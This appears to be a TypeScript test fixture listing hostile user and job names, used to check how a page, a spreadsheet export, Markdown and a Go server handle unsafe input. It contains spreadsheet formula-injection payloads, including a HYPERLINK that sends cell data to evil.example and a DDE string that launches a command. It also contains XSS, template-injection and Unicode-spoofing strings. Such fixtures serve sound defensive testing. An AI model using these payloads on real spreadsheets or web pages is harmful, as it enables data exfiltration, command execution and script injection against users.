/** Users of names a page, a spreadsheet or a Markdown table might take for something else. A Go server takes any. */
export const hostileUsers: readonly string[] = [
  '=HYPERLINK("https://evil.example/?q="&A1,"x")',
  '<img src=x onerror=alert(1)>',
  '@SUM(1)',
  '+1-1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  'Pat "Patch" O’Brien, Ltd; dev',
  'two\r\nlines',
  'a|b `code` [link](javascript:alert(1)) **bold**',
  '</td></tr></table><script>alert(1)</script>&amp;',
  'שירה לוי',
  'Ada \u202Egpj.exe',
  '👩🏽‍💻 Zoë 🚀',
  '${constructor}{{7*7}}',
];

/** Jobs of such names. A Go server takes the first and the last of them: it wants letters, digits and `_-.` alone. */
export const hostileJobs = [
  'unit',
  '=SUM(A1:A9)',
  '<img src=x onerror=alert(1)>',
  'pipe | and `backtick`',
  'بناء 🧪',
  '__proto__',
] as const;
